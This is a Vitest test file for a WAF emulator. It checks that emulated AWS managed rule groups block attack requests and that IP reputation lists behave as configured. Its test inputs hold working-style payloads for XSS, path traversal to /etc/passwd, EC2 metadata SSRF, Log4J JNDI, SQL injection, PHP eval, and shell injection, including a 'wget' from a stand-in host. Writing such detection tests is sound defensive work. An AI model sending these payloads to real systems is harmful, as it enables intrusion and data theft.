import { describe, expect, it } from 'vitest';
import { loadWebAcl, makeRequest, WafEngine } from '../../src/waf/index.js';

const vis = { SampledRequestsEnabled: false, CloudWatchMetricsEnabled: false, MetricName: 'x' };
const managed = (Name: string, Priority: number, extra: Record<string, unknown> = {}) => ({
  Name: `AWS-${Name}`,
  Priority,
  OverrideAction: { None: {} },
  VisibilityConfig: vis,
  Statement: { ManagedRuleGroupStatement: { VendorName: 'AWS', Name, ...extra } },
});

function engine(rules: unknown[]): WafEngine {
  const r = loadWebAcl([
    {
      Name: 'm',
      ARN: 'arn:aws:wafv2:us-east-1:123456789012:regional/webacl/m/1',
      DefaultAction: { Allow: {} },
      VisibilityConfig: vis,
      Rules: rules,
    },
  ]);
  expect(r.issues).toEqual([]);
  return new WafEngine(r.acl!);
}

const ua = { 'user-agent': 'Mozilla/5.0' };

describe('managed rule group emulations (waf.md §11)', () => {
  const e = engine([
    managed('AWSManagedRulesCommonRuleSet', 0),
    managed('AWSManagedRulesKnownBadInputsRuleSet', 1),
    managed('AWSManagedRulesSQLiRuleSet', 2),
    managed('AWSManagedRulesLinuxRuleSet', 3),
    managed('AWSManagedRulesUnixRuleSet', 4),
    managed('AWSManagedRulesPHPRuleSet', 5),
  ]);
  it('costs the vendor capacities', () => {
    expect(e.acl.rules.map((r) => r.wcu)).toEqual([700, 200, 200, 200, 100, 100]);
    expect(e.acl.capacity).toBe(1500);
  });
  it.each([
    [
      '/',
      {},
      'AWS-AWSManagedRulesCommonRuleSet',
      'NoUserAgent_HEADER',
      'awswaf:managed:aws:core-rule-set:NoUserAgent_Header',
    ],
    [
      '/?q=%3Cscript%3Ealert(1)%3C/script%3E',
      ua,
      'AWS-AWSManagedRulesCommonRuleSet',
      'CrossSiteScripting_QUERYARGUMENTS',
      'awswaf:managed:aws:core-rule-set:CrossSiteScripting_QueryArguments',
    ],
    [
      '/?f=../../etc/passwd',
      ua,
      'AWS-AWSManagedRulesCommonRuleSet',
      'GenericLFI_QUERYARGUMENTS',
      'awswaf:managed:aws:core-rule-set:GenericLFI_QueryArguments',
    ],
    [
      '/?u=http://169.254.169.254/latest/meta-data/',
      ua,
      'AWS-AWSManagedRulesCommonRuleSet',
      'EC2MetaDataSSRF_QUERYARGUMENTS',
      'awswaf:managed:aws:core-rule-set:EC2MetaDataSSRF_QueryArguments',
    ],
    [
      `/?x=${'$'}{jndi:ldap://e.com/a}`,
      ua,
      'AWS-AWSManagedRulesKnownBadInputsRuleSet',
      'Log4JRCE_QUERYSTRING',
      'awswaf:managed:aws:known-bad-inputs:Log4JRCE_QueryString',
    ],
    [
      '/?id=1%20UNION%20SELECT%20pw%20FROM%20users',
      ua,
      'AWS-AWSManagedRulesSQLiRuleSet',
      'SQLi_QUERYARGUMENTS',
      'awswaf:managed:aws:sql-database:SQLi_QueryArguments',
    ],
    [
      '/?c=x;cat%20/tmp/a',
      ua,
      'AWS-AWSManagedRulesUnixRuleSet',
      'UNIXShellCommandsVariables_QUERYARGUMENTS',
      'awswaf:managed:aws:posix-os:UNIXShellCommandsVariables_QueryArguments',
    ],
    [
      '/?c=system(%27id%27)',
      ua,
      'AWS-AWSManagedRulesPHPRuleSet',
      'PHPHighRiskMethodsVariables_QUERYSTRING',
      'awswaf:managed:aws:php-app:PHPHighRiskMethodsVariables_QueryString',
    ],
  ])('%s → %s / %s', (url, headers, acl, groupRule, label) => {
    const d = e.evaluate(makeRequest({ url, headers }));
    expect([d.action, d.terminatingRuleId, d.terminatingRuleType, d.terminatingGroupRule]).toEqual([
      'BLOCK',
      acl,
      'MANAGED_RULE_GROUP',
      groupRule,
    ]);
    expect(d.labels).toContain(label);
  });
  it('allows ordinary requests', () => {
    for (const url of ['/', '/products/12?color=red&size=m', '/search?q=rock+and+roll', "/?name=O'Reilly"]) {
      expect(e.evaluate(makeRequest({ url, headers: { ...ua, host: 'shop.example' } })).action).toBe('ALLOW');
    }
  });
  it('RuleActionOverrides and ExcludedRules apply; unknown names are ignored for managed groups', () => {
    const e2 = engine([
      managed('AWSManagedRulesCommonRuleSet', 0, {
        RuleActionOverrides: [
          { Name: 'NoUserAgent_HEADER', ActionToUse: { Count: {} } },
          { Name: 'NoSuchRule', ActionToUse: { Count: {} } },
        ],
      }),
      {
        Name: 'after',
        Priority: 1,
        Action: { Block: {} },
        VisibilityConfig: vis,
        Statement: { LabelMatchStatement: { Scope: 'LABEL', Key: 'core-rule-set:NoUserAgent_Header' } },
      },
    ]);
    const d = e2.evaluate(makeRequest({ url: '/' }));
    expect(d.terminatingRuleId).toBe('after');
    expect(d.ruleGroupList[0]!.nonTerminatingMatchingRules[0]).toMatchObject({
      ruleId: 'NoUserAgent_HEADER',
      action: 'COUNT',
    });
  });
  it('new field variants: SQLi_URIPATH, PHPHighRiskMethodsVariables_HEADER, UNIXShellCommandsVariables_HEADER', () => {
    const cases: [string, Record<string, string>, string, string][] = [
      ['/item/1%27%20OR%201=1--', ua, 'SQLi_URIPATH', 'awswaf:managed:aws:sql-database:SQLi_URIPath'],
      [
        '/',
        { ...ua, 'x-debug': 'eval(base64_decode($x))' },
        'PHPHighRiskMethodsVariables_HEADER',
        'awswaf:managed:aws:php-app:PHPHighRiskMethodsVariables_Header',
      ],
      [
        '/',
        { ...ua, referer: 'x; wget http://e.example/s' },
        'UNIXShellCommandsVariables_HEADER',
        'awswaf:managed:aws:posix-os:UNIXShellCommandsVariables_Header',
      ],
    ];
    for (const [url, headers, groupRule, label] of cases) {
      const d = e.evaluate(makeRequest({ url, headers: { host: 'shop.example', ...headers } }));
      expect(d.terminatingGroupRule).toBe(groupRule);
      expect(d.labels).toContain(label);
    }
  });
  it('AmazonIpReputationList: configured lists, an IP set named after the rule wins, DDoS list counts', () => {
    const acl = {
      Name: 'm',
      DefaultAction: { Allow: {} },
      VisibilityConfig: vis,
      Rules: [managed('AWSManagedRulesAmazonIpReputationList', 0)],
    };
    const r = loadWebAcl(
      [
        acl,
        { IPSet: { Name: 'AWSManagedReconnaissanceList', Addresses: ['198.51.100.0/24'], IPAddressVersion: 'IPV4' } },
      ],
      {
        ipReputation: {
          AWSManagedIPReputationList: ['203.0.113.0/24', '2001:db8::/32'],
          AWSManagedReconnaissanceList: ['192.0.2.0/24'],
          AWSManagedIPDDoSList: ['192.0.2.7/32'],
        },
      },
    );
    expect(r.issues).toEqual([]);
    const eng = new WafEngine(r.acl!);
    expect(r.acl!.rules[0]!.wcu).toBe(25);
    const at = (clientIp: string) => eng.evaluate(makeRequest({ url: '/', clientIp, headers: ua }));
    expect(at('203.0.113.9')).toMatchObject({ action: 'BLOCK', terminatingGroupRule: 'AWSManagedIPReputationList' });
    expect(at('2001:db8::1').labels).toContain('awswaf:managed:aws:amazon-ip-list:AWSManagedIPReputationList');
    expect(at('198.51.100.1').terminatingGroupRule).toBe('AWSManagedReconnaissanceList');
    // The option's list was replaced by the supplied IP set, so 192.0.2.1 is no longer on the reconnaissance list.
    expect(at('192.0.2.1').action).toBe('ALLOW');
    const ddos = at('192.0.2.7');
    expect(ddos.action).toBe('ALLOW');
    expect(ddos.labels).toContain('awswaf:managed:aws:amazon-ip-list:AWSManagedIPDDoSList');
    expect(at('10.0.0.1')).toMatchObject({ action: 'ALLOW', labels: [] });
  });
  it('AmazonIpReputationList without lists loads and matches nothing', () => {
    const e3 = engine([managed('AWSManagedRulesAmazonIpReputationList', 0)]);
    expect(e3.evaluate(makeRequest({ url: '/', clientIp: '203.0.113.9', headers: ua })).action).toBe('ALLOW');
  });
  it('a managed group Vigil does not emulate is a located error', () => {
    const r = loadWebAcl([
      { Name: 'm', DefaultAction: { Allow: {} }, Rules: [managed('AWSManagedRulesBotControlRuleSet', 0)] },
    ]);
    expect(r.issues[0]).toMatchObject({
      path: 'Rules[0].Statement.ManagedRuleGroupStatement',
      message: 'managed rule group AWS/AWSManagedRulesBotControlRuleSet has no Vigil emulation loaded',
    });
  });
});
